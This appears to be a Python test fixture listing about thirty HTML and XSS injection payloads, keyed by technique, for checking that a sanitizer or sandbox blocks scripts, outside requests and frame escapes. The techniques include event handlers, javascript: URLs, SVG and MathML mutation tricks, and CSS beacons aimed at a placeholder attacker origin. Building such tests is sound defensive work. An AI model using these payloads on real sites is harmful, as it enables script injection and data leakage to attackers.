"""Pages that try to run scripts, to request something, or to leave their frame. {origin}: a server of the attacker."""

# ruff: noqa: E501  one attack is one line

ATTACKS = {
    "script": "<script>fetch('{origin}/script')</script><script src={origin}/script.js></script>",
    "handler": "<img src=x onerror=\"fetch('{origin}/onerror')\"><p onclick=alert(1) onfocus=alert(2) tabindex=0 autofocus>x",
    "javascript-url": '<a href="javascript:fetch(\'{origin}/js\')">x</a><a href="jav&#x0A;ascript:alert(1)">y</a>',
    "data-url": '<a href="data:text/html,<script>alert(1)</script>">x</a><iframe src="data:text/html,x"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url={origin}/refresh">',
    "meta-policy": '<meta http-equiv=content-security-policy content="default-src *"><p>x',
    "base": '<base href="{origin}/"><a href=relative>x</a><img src=relative.png>',
    "svg": "<svg onload=alert(1)><script>alert(2)</script><image href={origin}/svg.png /><use href={origin}/u#x /></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "foreign": "<svg><foreignObject><iframe src={origin}/foreign></iframe></foreignObject></svg>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi><annotation-xml encoding=text/html><img src={origin}/m>',
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "style": "<style>@import '{origin}/import.css'; p {{ background: url({origin}/style.png) }}"
    " @font-face {{ font-family: f; src: url({origin}/font) }} p {{ font-family: f }}</style>",
    "style-attribute": '<p style="background: url({origin}/attribute.png); list-style: url({origin}/l)">x',
    "link": "<link rel=stylesheet href={origin}/link.css><link rel=preload as=image href={origin}/preload.png>"
    "<link rel=dns-prefetch href={origin}><link rel=icon href={origin}/icon.png>",
    "images": '<img src={origin}/a.png srcset="{origin}/b.png 2x"><picture><source srcset={origin}/c.png><img></picture>'
    "<input type=image src={origin}/d.png><body background={origin}/e.png><table background={origin}/f.png><tr><td>x</table>",
    "media": "<video src={origin}/v poster={origin}/p.png autoplay><track src={origin}/t></video><audio src={origin}/a autoplay>",
    "object": "<object data={origin}/object></object><embed src={origin}/embed><applet code={origin}/applet></applet>",
    "form": "<form action={origin}/form id=f><input name=a value=b><button formaction={origin}/button>go</button></form>",
    "iframe": "<iframe src={origin}/frame></iframe><iframe srcdoc=\"<script>fetch('{origin}/srcdoc')</script>\"></iframe>",
    "frameset": "<frameset><frame src={origin}/frameset></frameset>",
    "template": "<template><script>alert(1)</script></template><div><template shadowrootmode=open><img src={origin}/shadow>",
    "portal": "<a href={origin}/ping ping={origin}/pinged target=_top>x</a><area href={origin}/area>",
    "comment": "<!--><script>alert(1)</script--><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href={origin}/x?>",
    "dialog": "<dialog open>x</dialog><details ontoggle=alert(1) open>x</details><p popover id=pop>x</p>",
    "overlay": '<div style="position:fixed;inset:0;z-index:9999" class=pick id=content data-mark=pick>covers all</div>',
    "plaintext": "</textarea></title></style></xmp><plaintext><script>alert(1)</script>",
}
